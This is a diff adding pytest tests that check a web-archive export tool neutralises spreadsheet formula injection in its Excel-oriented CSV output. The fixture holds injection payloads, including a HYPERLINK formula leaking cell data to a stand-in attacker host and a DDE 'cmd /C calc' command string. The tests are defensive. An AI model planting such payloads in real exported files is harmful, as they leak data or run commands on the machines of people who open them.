@@ -140,3 +140,37 @@ def test_structure_and_view_count_tables_export_with_stable_columns(table, colum
         assert list(EXPORTS[table].rows(archive, since="2023-01-01")) == [] or table == "view_counts"
     finally:
         archive.close()
+
+
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1, "关于教育工作的审议意见")', "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "body_text": "-2+3\n区人民政府：", "meeting": "\t=1+1", "subject": "\r=1+1"}
+
+
+@pytest.fixture
+def formula_db(tmp_path):
+    archive = Archive(tmp_path / "formulas.db")
+    url = "http://jjrd.example/ShowArticle.asp?ArticleID=1"
+    capture_id, _ = archive.add_capture(url=url, status=200, headers=[], body=b"page")
+    archive.save_document({"url": url, "published_at": "2020-01-01T10:00:00+08:00", "view_count": -1, "paragraphs": ["=1+1"],
+                           "facts": {"meeting": FORMULAS["meeting"], "subject": FORMULAS["subject"]},
+                           **{name: value for name, value in FORMULAS.items() if name in ("title", "source", "body_text")}},
+                          capture_id=capture_id, crawl_id=None)
+    archive.close()
+    return str(tmp_path / "formulas.db")
+
+
+def test_excel_makes_every_formula_like_cell_text(formula_db, cli):
+    output = cli("export", "--db", formula_db, "--excel").stdout_bytes.decode("utf-8-sig")
+    (row,) = csv.DictReader(io.StringIO(output))
+    assert row["title"] == "'" + FORMULAS["title"] and row["source"] == "'" + FORMULAS["source"]
+    assert row["body_text"] == "'" + FORMULAS["body_text"]
+    assert (row["meeting"], row["subject"]) == ("'" + FORMULAS["meeting"], "'" + FORMULAS["subject"])
+    assert row["view_count"] == "-1"  # a number is a number, not a formula
+    assert [name for name, cell in row.items() if name != "view_count" and cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+
+
+def test_plain_csv_and_json_lines_keep_the_data_as_it_is(formula_db, cli):
+    (row,) = csv.DictReader(io.StringIO(cli("export", "--db", formula_db, "--format", "csv").output))
+    (record,) = [json.loads(line) for line in cli("export", "--db", formula_db).output.splitlines()]
+    for name in ("title", "source", "body_text", "meeting", "subject"):
+        assert row[name] == record[name] == FORMULAS[name]
